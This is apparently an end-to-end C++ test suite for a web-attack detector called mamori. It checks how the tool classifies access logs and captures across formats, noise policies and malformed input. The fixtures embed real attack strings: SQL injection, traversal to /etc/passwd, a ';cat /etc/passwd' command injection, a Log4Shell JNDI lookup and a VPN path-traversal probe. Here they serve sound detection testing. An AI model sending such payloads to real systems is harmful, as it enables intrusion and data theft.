// End-to-end tests of `mamori detect`: the real binary over access logs in every format, over
// captures generated from the same logs, and over broken input.
#include <gtest/gtest.h>

#include <map>
#include <set>

#include <fmt/format.h>

#include "e2e_support.h"

namespace mamori::e2e {
namespace {

const std::string kMamori = MAMORI_BIN;
const std::string kGencap = MAMORI_GENCAP_BIN;
const std::string kGenweblog = MAMORI_GENWEBLOG_BIN;

struct Req {
  std::string client;
  std::string method;
  std::string target;
  int status;
  int bytes;
  std::string userAgent;
  std::string host = "www.example.go.jp";
};

constexpr const char* kBrowser =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/126.0.0.0 Safari/537.36";

// Seconds after 2026-11-26T01:00:00Z as an Apache time.
std::string apacheTime(int second) {
  return fmt::format("26/Nov/2026:01:{:02}:{:02} +0000", (second / 60) % 60, second % 60);
}
std::string isoTime(int second) {
  return fmt::format("2026-11-26T01:{:02}:{:02}Z", (second / 60) % 60, second % 60);
}

std::string combinedLine(const Req& r, int second) {
  return fmt::format("{} - - [{}] \"{} {} HTTP/1.1\" {} {} \"-\" \"{}\"", r.client,
                     apacheTime(second), r.method, r.target, r.status, r.bytes, r.userAgent);
}

// A small site's day: benign browsing, one address trying SQL injection (one attempt answered
// 200), one trying traversal and failing, and a scanner.
std::vector<Req> siteRequests() {
  std::vector<Req> v;
  const char* pages[] = {"/", "/news/2026/11/press-release.html", "/search?q=o%27reilly+books",
                         "/search?q=select+committee+union+budget", "/css/site.css",
                         "/docs/guide/index.html", "/app.js?v=3.2.1", "/contact?name=O%27Brien"};
  for (int i = 0; i < 40; ++i) {
    v.push_back({fmt::format("198.51.100.{}", 10 + i % 20), "GET", pages[i % 8], 200,
                 1000 + 100 * (i % 8), kBrowser});
  }
  for (int i = 0; i < 5; ++i) {
    v.push_back({"203.0.113.7", "GET",
                 fmt::format("/item.php?id={}%27%20union%20select%20null,version()--", i),
                 i == 0 ? 200 : 500, i == 0 ? 7777 : 300, kBrowser});
  }
  for (int i = 0; i < 3; ++i) {
    v.push_back({"203.0.113.9", "GET", "/download?file=../../../../etc/passwd", 404, 200, kBrowser});
  }
  v.push_back({"203.0.113.20", "GET", "/", 200, 1000, "sqlmap/1.7.2#stable (https://sqlmap.org)"});
  v.push_back({"203.0.113.21", "GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
               200, 4000, kBrowser});
  v.push_back({"203.0.113.22", "GET", "/", 200, 1000, "${jndi:ldap://203.0.113.22:1389/a}"});
  return v;
}

std::string combinedLog(const std::vector<Req>& reqs) {
  std::string out;
  for (size_t i = 0; i < reqs.size(); ++i) out += combinedLine(reqs[i], static_cast<int>(i)) + "\n";
  return out;
}

std::string jsonLog(const std::vector<Req>& reqs) {
  std::string out;
  for (size_t i = 0; i < reqs.size(); ++i) {
    const auto& r = reqs[i];
    nlohmann::json j = {{"time", isoTime(static_cast<int>(i))},
                        {"remote_addr", r.client},
                        {"method", r.method},
                        {"uri", r.target},
                        {"protocol", "HTTP/1.1"},
                        {"status", r.status},
                        {"bytes", r.bytes},
                        {"user_agent", r.userAgent},
                        {"host", r.host}};
    out += j.dump() + "\n";
  }
  return out;
}

std::string w3cLog(const std::vector<Req>& reqs) {
  std::string out =
      "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n"
      "#Date: 2026-11-26 01:00:00\n"
      "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
      "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status sc-bytes time-taken\n";
  for (size_t i = 0; i < reqs.size(); ++i) {
    const auto& r = reqs[i];
    const auto q = r.target.find('?');
    const std::string stem = r.target.substr(0, q);
    const std::string query = q == std::string::npos ? "-" : r.target.substr(q + 1);
    std::string ua = r.userAgent;
    for (char& c : ua) {
      if (c == ' ') c = '+';
    }
    out += fmt::format("2026-11-26 01:{:02}:{:02} 192.0.2.80 {} {} {} 80 - {} {} - {} 0 0 {} 15\n",
                       (i / 60) % 60, i % 60, r.method, stem, query, r.client, ua, r.status,
                       r.bytes);
  }
  return out;
}

// One signature cache for the whole test binary, under the scratch area rather than the user's.
const std::string& cacheEnv() {
  static const std::string env =
      "MAMORI_CACHE_DIR=" +
      quote((std::filesystem::temp_directory_path() /
             ("mamori-e2e-detect-cache-" + std::to_string(::getpid())))
                .string()) +
      " ";
  return env;
}

CommandResult detect(const std::string& args) {
  return run(cacheEnv() + kMamori + " detect " + args);
}

nlohmann::json readJson(const std::filesystem::path& p) { return nlohmann::json::parse(readFile(p)); }

// Line number → categories (sorted names) from requests.ndjson.
std::map<uint64_t, std::set<std::string>> perRequest(const std::filesystem::path& out) {
  std::map<uint64_t, std::set<std::string>> m;
  for (const auto& j : readNdjson(out / "requests.ndjson")) {
    auto& cats = m[j.at("line").get<uint64_t>()];
    if (j.contains("categories")) {
      for (const auto& c : j["categories"]) cats.insert(c.get<std::string>());
    }
  }
  return m;
}

TEST(DetectE2e, LogRunWritesEventsSummaryAndOneLinePerRequest) {
  ScratchDir dir("detect-log");
  const auto reqs = siteRequests();
  writeFile(dir / "access.log", combinedLog(reqs));
  const auto r = detect(fmt::format("--log {} --out {} --per-request", quote((dir / "access.log").string()),
                                    quote((dir / "out").string())));
  ASSERT_EQ(r.exitCode, 0) << r.output;
  EXPECT_NE(r.output.find("events requiring confirmation"), std::string::npos) << r.output;

  const auto per = perRequest(dir / "out");
  ASSERT_EQ(per.size(), reqs.size());
  EXPECT_EQ(per.begin()->first, 1U);
  for (size_t i = 0; i < 40; ++i) EXPECT_TRUE(per.at(i + 1).empty()) << reqs[i].target;
  for (size_t i = 40; i < 45; ++i) EXPECT_TRUE(per.at(i + 1).contains("sqli")) << reqs[i].target;
  for (size_t i = 45; i < 48; ++i) {
    EXPECT_TRUE(per.at(i + 1).contains("path-traversal") || per.at(i + 1).contains("sensitive-file"))
        << reqs[i].target;
  }
  EXPECT_TRUE(per.at(49).contains("scanner"));
  EXPECT_TRUE(per.at(50).contains("exploit"));
  EXPECT_TRUE(per.at(51).contains("log4shell"));

  const auto summary = readJson(dir / "out" / "summary.json");
  EXPECT_EQ(summary["requests"], reqs.size());
  EXPECT_EQ(summary["detected"], reqs.size() - 40);
  EXPECT_EQ(summary["detected"].get<uint64_t>(),
            summary["noise"].get<uint64_t>() + summary["raised"].get<uint64_t>());
  EXPECT_EQ(summary["malformed"]["count"], 0);
  EXPECT_EQ(summary["input"]["format"], "combined");
  EXPECT_EQ(summary["input"]["lines"], reqs.size());

  // The SQL injection source is raised as an event with its requests as evidence; the failed
  // traversal (404s) and the lone scanner request are noise under the default policy.
  const auto events = readNdjson(dir / "out" / "events.ndjson");
  ASSERT_FALSE(events.empty());
  bool sawSqli = false;
  for (const auto& e : events) {
    ASSERT_FALSE(e["samples"].empty());
    EXPECT_LE(e["samples"].size(), 3U);
    for (const auto& s : e["samples"]) {
      const auto line = s["line"].get<uint64_t>();
      ASSERT_GE(line, 1U);
      ASSERT_LE(line, reqs.size());
      EXPECT_EQ(s["request"].get<std::string>(), combinedLine(reqs[line - 1], static_cast<int>(line - 1)));
    }
    EXPECT_NE(e["sources"][0], "203.0.113.9") << e.dump();
    EXPECT_NE(e["category"], "scanner") << e.dump();
    if (e["category"] == "sqli") {
      sawSqli = true;
      EXPECT_EQ(e["sources"][0], "203.0.113.7");
      EXPECT_EQ(e["pattern"], "single");
      EXPECT_EQ(e["requests"], 5);
    }
  }
  EXPECT_TRUE(sawSqli);
}

TEST(DetectE2e, EveryLogFormatGivesTheSameCategories) {
  ScratchDir dir("detect-formats");
  const auto reqs = siteRequests();
  writeFile(dir / "combined.log", combinedLog(reqs));
  writeFile(dir / "json.log", jsonLog(reqs));
  writeFile(dir / "w3c.log", w3cLog(reqs));
  std::string common;
  for (size_t i = 0; i < reqs.size(); ++i) {
    const auto& q = reqs[i];
    common += fmt::format("{} - - [{}] \"{} {} HTTP/1.1\" {} {}\n", q.client,
                          apacheTime(static_cast<int>(i)), q.method, q.target, q.status, q.bytes);
  }
  writeFile(dir / "common.log", common);

  std::map<std::string, std::map<uint64_t, std::set<std::string>>> results;
  for (const std::string name : {"combined", "json", "w3c", "common"}) {
    // Explicit format for half of them, guessed for the rest.
    const std::string format = (name == "json" || name == "common") ? " --format " + name : "";
    const auto r = detect(fmt::format("--log {} --out {} --per-request{} -q",
                                      quote((dir / (name + ".log")).string()),
                                      quote((dir / ("out-" + name)).string()), format));
    ASSERT_EQ(r.exitCode, 0) << name << ": " << r.output;
    EXPECT_EQ(readJson(dir / ("out-" + name) / "summary.json")["input"]["format"], name);
    // W3C has 4 directive lines before the first request.
    const uint64_t skip = name == "w3c" ? 4 : 0;
    for (const auto& [line, cats] : perRequest(dir / ("out-" + name))) {
      results[name][line - skip] = cats;
    }
  }
  // The common format has no user agent: the scanner and log4shell lines differ there.
  auto expectedCommon = results["combined"];
  expectedCommon[49].erase("scanner");
  expectedCommon[51].erase("log4shell");
  EXPECT_EQ(results["json"], results["combined"]);
  EXPECT_EQ(results["w3c"], results["combined"]);
  EXPECT_EQ(results["common"], expectedCommon);
}

TEST(DetectE2e, ManyToOneAndOneToManyBurstsAreNamed) {
  ScratchDir dir("detect-bursts");
  std::vector<Req> reqs;
  // One address against six hosts, answered 200 each time.
  for (int i = 0; i < 6; ++i) {
    Req r{"203.0.113.50", "GET", "/login.php?user=admin%27%20or%20%271%27=%271", 200, 5000, kBrowser};
    r.host = fmt::format("site{}.example.go.jp", i);
    reqs.push_back(r);
  }
  // Six addresses against one host, a few times each.
  for (int i = 0; i < 12; ++i) {
    Req r{fmt::format("198.18.0.{}", 1 + i % 6), "GET", "/cgi-bin/status?x=;cat%20/etc/passwd",
          200, 900, kBrowser};
    r.host = "portal.example.go.jp";
    reqs.push_back(r);
  }
  writeFile(dir / "bursts.log", jsonLog(reqs));
  const auto r = detect(fmt::format("--log {} --out {} -q", quote((dir / "bursts.log").string()),
                                    quote((dir / "out").string())));
  ASSERT_EQ(r.exitCode, 0) << r.output;
  bool oneToMany = false;
  bool manyToOne = false;
  for (const auto& e : readNdjson(dir / "out" / "events.ndjson")) {
    if (e["pattern"] == "one-to-many") {
      oneToMany = true;
      EXPECT_EQ(e["sources"], nlohmann::json::array({"203.0.113.50"}));
      EXPECT_EQ(e["target_count"], 6);
      EXPECT_EQ(e["requests"], 6);
    }
    if (e["pattern"] == "many-to-one") {
      manyToOne = true;
      EXPECT_EQ(e["targets"], nlohmann::json::array({"portal.example.go.jp"}));
      EXPECT_EQ(e["source_count"], 6);
      EXPECT_EQ(e["requests"], 12);
    }
  }
  EXPECT_TRUE(oneToMany);
  EXPECT_TRUE(manyToOne);
}

TEST(DetectE2e, NoisePolicyDecidesWhatIsRaised) {
  ScratchDir dir("detect-policy");
  std::vector<Req> reqs;
  for (int i = 0; i < 4; ++i) {
    reqs.push_back({"203.0.113.9", "GET", "/download?file=../../../../etc/passwd", 404, 200, kBrowser});
  }
  writeFile(dir / "failed.log", combinedLog(reqs));
  auto r = detect(fmt::format("--log {} --out {} -q", quote((dir / "failed.log").string()),
                              quote((dir / "default").string())));
  ASSERT_EQ(r.exitCode, 0) << r.output;
  EXPECT_TRUE(readNdjson(dir / "default" / "events.ndjson").empty());
  auto summary = readJson(dir / "default" / "summary.json");
  EXPECT_EQ(summary["noise"], 4);
  EXPECT_EQ(summary["raised"], 0);

  writeFile(dir / "policy.toml", "failed_is_noise = false\n");
  r = detect(fmt::format("--log {} --out {} --policy {} -q", quote((dir / "failed.log").string()),
                         quote((dir / "raised").string()), quote((dir / "policy.toml").string())));
  ASSERT_EQ(r.exitCode, 0) << r.output;
  const auto events = readNdjson(dir / "raised" / "events.ndjson");
  ASSERT_EQ(events.size(), 1U);
  EXPECT_EQ(events[0]["requests"], 4);
  EXPECT_EQ(events[0]["outcomes"]["failed"], 4);

  writeFile(dir / "typo.toml", "faild_is_noise = false\n");
  r = detect(fmt::format("--log {} --out {} --policy {} -q", quote((dir / "failed.log").string()),
                         quote((dir / "typo").string()), quote((dir / "typo.toml").string())));
  EXPECT_EQ(r.exitCode, 1);
  EXPECT_NE(r.output.find("faild_is_noise"), std::string::npos) << r.output;
  EXPECT_FALSE(std::filesystem::exists(dir / "typo" / "events.ndjson"));
}

TEST(DetectE2e, MalformedLinesAreCountedWithLineNumbersAndNeverStopTheRun) {
  ScratchDir dir("detect-malformed");
  const auto reqs = siteRequests();
  std::string log = combinedLog(reqs);
  std::string garbage;
  for (int i = 0; i < 3000; ++i) {
    const char c = static_cast<char>((i * 131 + 7) % 256);
    garbage.push_back(c == '\n' ? '\0' : c);  // one line of binary bytes, NULs included
  }
  std::string insane(size_t{3} << 20, 'A');  // a 3 MiB line
  log = "this is not a log line\n" + log + garbage + "\n" + insane + "\n\n" +
        combinedLine(reqs[40], 99);  // last line without a newline
  writeFile(dir / "broken.log", log);
  const auto r = detect(fmt::format("--log {} --format combined --out {} --per-request -q",
                                    quote((dir / "broken.log").string()),
                                    quote((dir / "out").string())));
  ASSERT_EQ(r.exitCode, 0) << r.output;
  const auto summary = readJson(dir / "out" / "summary.json");
  EXPECT_EQ(summary["requests"], reqs.size() + 1);
  const auto& malformed = summary["malformed"];
  ASSERT_GE(malformed["count"].get<uint64_t>(), 3U);
  std::set<uint64_t> lines;
  for (const auto& m : malformed["first"]) {
    lines.insert(m["line"].get<uint64_t>());
    EXPECT_FALSE(m["error"].get<std::string>().empty());
  }
  EXPECT_TRUE(lines.contains(1));
  EXPECT_TRUE(lines.contains(reqs.size() + 3));  // the 3 MiB line
  const auto per = perRequest(dir / "out");
  EXPECT_TRUE(per.at(reqs.size() + 5).contains("sqli"));  // the final line, after a blank one
}

TEST(DetectE2e, StandardInputWorksLikeAFile) {
  ScratchDir dir("detect-stdin");
  writeFile(dir / "access.log", combinedLog(siteRequests()));
  auto r = detect(fmt::format("--log {} --out {} --per-request -q",
                              quote((dir / "access.log").string()), quote((dir / "file").string())));
  ASSERT_EQ(r.exitCode, 0) << r.output;
  r = run(fmt::format("cat {} | {}{} detect --log - --out {} --per-request -q",
                      quote((dir / "access.log").string()), cacheEnv(), kMamori,
                      quote((dir / "stdin").string())));
  ASSERT_EQ(r.exitCode, 0) << r.output;
  EXPECT_EQ(readFile(dir / "file" / "requests.ndjson"), readFile(dir / "stdin" / "requests.ndjson"));
  EXPECT_EQ(readJson(dir / "file" / "summary.json")["input"]["sha256"],
            readJson(dir / "stdin" / "summary.json")["input"]["sha256"]);
}

TEST(DetectE2e, BadInvocationsFailWithClearErrors) {
  ScratchDir dir("detect-bad");
  writeFile(dir / "access.log", combinedLog(siteRequests()));
  const std::string log = quote((dir / "access.log").string());

  auto r = detect(fmt::format("--log {} --format apache2 --out {}", log, quote((dir / "o1").string())));
  EXPECT_EQ(r.exitCode, 2);
  EXPECT_NE(r.output.find("apache2"), std::string::npos) << r.output;

  r = detect(fmt::format("--out {}", quote((dir / "o2").string())));
  EXPECT_EQ(r.exitCode, 2);
  EXPECT_NE(r.output.find("--log or --pcap"), std::string::npos) << r.output;

  r = detect(fmt::format("--log {} --out {}", quote((dir / "missing.log").string()),
                         quote((dir / "o3").string())));
  EXPECT_EQ(r.exitCode, 1);
  EXPECT_NE(r.output.find("missing.log"), std::string::npos) << r.output;
  EXPECT_FALSE(std::filesystem::exists(dir / "o3" / "events.ndjson"));

  r = detect(fmt::format("--pcap {} --out {}", log, quote((dir / "o4").string())));
  EXPECT_EQ(r.exitCode, 1) << r.output;
  EXPECT_NE(r.output.find("access.log"), std::string::npos) << r.output;
  EXPECT_FALSE(std::filesystem::exists(dir / "o4" / "events.ndjson"));

  ASSERT_EQ(detect(fmt::format("--log {} --out {} -q", log, quote((dir / "o5").string()))).exitCode, 0);
  const std::string before = readFile(dir / "o5" / "events.ndjson");
  r = detect(fmt::format("--log {} --out {} -q", log, quote((dir / "o5").string())));
  EXPECT_EQ(r.exitCode, 1);
  EXPECT_NE(r.output.find("already exists"), std::string::npos) << r.output;
  EXPECT_EQ(readFile(dir / "o5" / "events.ndjson"), before);

  r = detect("--help");
  EXPECT_EQ(r.exitCode, 0);
  EXPECT_NE(r.output.find("--per-request"), std::string::npos);
}

// The same requests as a log and as traffic (mamori-gencap turns each log line into a TCP
// connection with the logged response) are classified the same.
TEST(DetectE2e, CaptureOfTheSameRequestsGivesTheSameDetections) {
  ScratchDir dir("detect-pcap");
  const auto reqs = siteRequests();
  writeFile(dir / "access.log", combinedLog(reqs));
  auto r = run(fmt::format("{} --scenario http --requests {} --out {}", kGencap,
                           quote((dir / "access.log").string()), quote((dir / "web.pcap").string())));
  ASSERT_EQ(r.exitCode, 0) << r.output;
  r = detect(fmt::format("--log {} --out {} --per-request -q", quote((dir / "access.log").string()),
                         quote((dir / "log").string())));
  ASSERT_EQ(r.exitCode, 0) << r.output;
  r = detect(fmt::format("--pcap {} --out {} --per-request -q", quote((dir / "web.pcap").string()),
                         quote((dir / "pcap").string())));
  ASSERT_EQ(r.exitCode, 0) << r.output;

  const auto fromLog = readJson(dir / "log" / "summary.json");
  const auto fromPcap = readJson(dir / "pcap" / "summary.json");
  EXPECT_EQ(fromPcap["input"]["kind"], "capture");
  EXPECT_EQ(fromPcap["input"]["http"]["transactions"], reqs.size());
  EXPECT_EQ(fromPcap["input"]["http"]["unanswered"], 0);
  EXPECT_EQ(fromPcap["requests"], fromLog["requests"]);
  EXPECT_EQ(fromPcap["detected"], fromLog["detected"]);
  EXPECT_EQ(fromPcap["by_category"], fromLog["by_category"]);
  EXPECT_EQ(fromPcap["by_outcome"], fromLog["by_outcome"]);
}

// Detection quality as a regression guard, on a labelled log from mamori-genweblog (the
// development payloads, so the bounds sit a little below what the rules reach today; the honest
// measurement on held-out payloads is bench/detect, recorded in bench/RESULTS.md).
TEST(DetectE2e, LabelledCorpusRecallAndFalsePositivesStayInBounds) {
  ScratchDir dir("detect-quality");
  auto r = run(fmt::format("{} --lines 6000 --attack-ratio 0.3 --seed 5 --log {} --labels {}",
                           kGenweblog, quote((dir / "corpus.log").string()),
                           quote((dir / "labels.ndjson").string())));
  ASSERT_EQ(r.exitCode, 0) << r.output;
  r = detect(fmt::format("--log {} --out {} --per-request -q", quote((dir / "corpus.log").string()),
                         quote((dir / "out").string())));
  ASSERT_EQ(r.exitCode, 0) << r.output;
  const auto predicted = perRequest(dir / "out");
  std::map<std::string, std::pair<int, int>> recall;  // category -> (flagged, lines)
  int benign = 0;
  int falsePositives = 0;
  for (const auto& label : readNdjson(dir / "labels.ndjson")) {
    const auto line = label["line"].get<uint64_t>();
    ASSERT_TRUE(predicted.contains(line)) << line;
    const bool flagged = !predicted.at(line).empty();
    if (label["categories"].empty()) {
      ++benign;
      falsePositives += flagged ? 1 : 0;
      continue;
    }
    for (const auto& c : label["categories"]) {
      auto& [hit, total] = recall[c.get<std::string>()];
      hit += flagged ? 1 : 0;
      ++total;
    }
  }
  ASSERT_EQ(recall.size(), 10U);
  for (const auto& [category, counts] : recall) {
    const double rate = static_cast<double>(counts.first) / counts.second;
    EXPECT_GE(rate, category == "scanner" ? 0.75 : 0.95) << category << ": " << counts.first
                                                          << " of " << counts.second;
  }
  ASSERT_GT(benign, 3000);
  EXPECT_LE(static_cast<double>(falsePositives) / benign, 0.005) << falsePositives << " of " << benign;
}

}  // namespace
}  // namespace mamori::e2e
